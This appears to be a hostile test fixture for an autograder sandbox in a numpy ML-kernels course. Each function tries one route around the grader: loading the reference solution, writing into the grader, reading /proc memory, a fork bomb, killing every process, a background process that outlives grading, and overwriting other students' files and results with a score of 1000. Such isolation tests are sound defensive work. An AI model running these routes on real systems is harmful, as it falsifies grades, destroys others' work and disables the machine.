# Hostile (appended to the correct submission): each function tries one route around the grader
# that the audit hook cannot be relied on to stop, and returns the right answer only if the
# route got through -- full marks for work not done. The tests run it with the audit hook
# switched off, as a student who defeats it would, so only the operating system stands in the
# way. PACKAGE_DIR, CONFIG_PATH, CLASS_DIR, RESULTS_DIR, CANARY_PATH, MARK and PORT are
# replaced by the tests.
import os
import sys
import time

_PKG = "PACKAGE_DIR"
_OK = dict(globals())          # the correct functions defined above


def _wrong(x):
    return np.zeros_like(x), {}


def softmax_forward(x, axis=-1):             # import the reference from its installed files
    try:
        import importlib.util
        spec = importlib.util.spec_from_file_location("ref", _PKG + "/__init__.py",
                                                      submodule_search_locations=[_PKG])
        ref = importlib.util.module_from_spec(spec)
        sys.modules["ref"] = ref
        spec.loader.exec_module(ref)
        return ref.softmax_forward(x, axis=axis)
    except Exception:
        return _wrong(x)


def relu_forward(x):                          # the hidden seed in grading.json, by a descriptor
    try:
        d = os.open(os.path.dirname("CONFIG_PATH"), os.O_RDONLY)
        fd = os.open(os.path.basename("CONFIG_PATH"), os.O_RDONLY, dir_fd=d)
        if b"hidden_seed" in os.read(fd, 1 << 16):
            return _OK["relu_forward"](x)
    except OSError:
        pass
    return _wrong(x)


def gelu_forward(x, approximate="none"):      # write into the installed grader
    try:
        with open(_PKG + "/grading/compare.py", "a") as f:
            f.write("\n")
        return _OK["gelu_forward"](x, approximate=approximate)
    except OSError:
        return _wrong(x)


def log_softmax_forward(x, axis=-1):          # the grading process's memory, through /proc
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if b"pytest" in f.read() or b"numpytfmr" in open(f"/proc/{pid}/environ", "rb").read():
                        open(f"/proc/{pid}/mem", "rb").close()
                        return _OK["log_softmax_forward"](x, axis=axis)
    except OSError:
        pass
    return _wrong(x)


def layernorm_forward(x, gamma=None, beta=None, *, eps=1e-5):   # outlive grading: setsid, twice
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open("/proc/self/comm", "w") as f:
                f.write("MARK")
            time.sleep(60)
        os._exit(0)
    return _wrong(x)


def rmsnorm_forward(x, gamma=None, *, eps=1e-5):      # a fork bomb, then the real work
    children = 0
    try:
        for _ in range(400):
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
            children += 1
    except OSError:
        pass
    if children >= 400:
        return _OK["rmsnorm_forward"](x, gamma, eps=eps)
    return _wrong(x)


def linear_forward(x, W, b=None):             # leave a file in the shared memory folder
    try:
        with open("/dev/shm/MARK", "w") as f:
            f.write("left behind")
    except OSError:
        pass
    return _wrong(x)


def embedding_forward(ids, W):                # the network: a server of the grading machine
    import socket
    try:
        socket.create_connection(("127.0.0.1", int("PORT")), timeout=2).close()
    except OSError:
        return _wrong(W)
    return _OK["embedding_forward"](ids, W)


def cross_entropy_forward(logits, targets, *, ignore_index=-100):   # other students, the grades
    got = 0
    for top in ("CLASS_DIR", "RESULTS_DIR"):
        for folder, _, files in os.walk(top):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as f:
                        f.read(1)
                    got += 1
                    if "MARK" not in path:
                        with open(path, "w") as f:          # overwrite it: sources, results
                            f.write('{"score": 1000}\n')
                except OSError:
                    pass
    if got:
        return _OK["cross_entropy_forward"](logits, targets, ignore_index=ignore_index)
    return _wrong(logits)


def attention_forward(Q, K, V, *, mask=None, scale=None, bias=None, dropout=0.0, rng=None):
    try:                                      # kill every process it can see
        os.kill(-1, 9)
    except OSError:
        pass
    return _wrong(Q)


def dpo_loss_forward(*args, **kwargs):        # a root-owned canary, through a link
    try:
        os.symlink("CANARY_PATH", "output.txt")
        os.mkfifo("results.json")
        with open("CANARY_PATH", "w") as f:
            f.write("changed")
    except OSError:
        pass
    return _OK["dpo_loss_forward"](*args, **kwargs) if open("CANARY_PATH").read() == "changed" \
        else (np.zeros(()), {})
